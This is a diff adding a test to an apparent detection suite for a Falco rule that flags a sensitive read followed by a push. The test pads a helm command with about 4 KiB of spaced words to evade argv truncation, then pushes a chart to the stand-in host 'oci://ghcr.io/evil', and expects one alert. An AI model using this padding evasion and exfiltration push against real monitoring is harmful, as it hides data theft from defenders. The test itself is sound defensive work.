@@ -136,6 +136,16 @@ describe('an argv Falco cut at 4 KiB whose padding holds spaces (red-team review
     expect(await alertsOf(falcoRun('/usr/bin/helm', pull, GHCR))).toHaveLength(1);
   });
 
+  it('takes two spaced arguments for padding too: their groupings are searched, not listed', async () => {
+    // `--kube-context "prod dependency upgrade" --kube-as-group "<4 KiB of words>"`: C(words−1, joins) groupings,
+    // the padded push's own (every argument a flag or its value) far past the listing's first 128, and no one
+    // argument holding every space leaves a single visible sub-command word (the last, which may be cut).
+    const group = Array.from({ length: 1000 }, (_, i) => `g${i}`).join(' ');
+    const helm = ['helm', '--kube-context', 'prod dependency upgrade', '--kube-as-group', group, 'push', 'chart.tgz'];
+    const alerts = await alertsOf(falcoRun('/usr/bin/helm', [...helm, 'oci://ghcr.io/evil'], GHCR));
+    expect(alerts.map((a) => [a.rule, a.push.tool])).toEqual([['sensitive-read-then-push', 'helm']]);
+  });
+
   it('still takes a sub-command seen in every grouping of the words for what it is', async () => {
     // A reading of such words may also expose a word of the text as the sub-command, where the count leaves it
     // (joined-argv.ts); the text here holds none of helm's: helm's words show `upgrade` in every grouping.
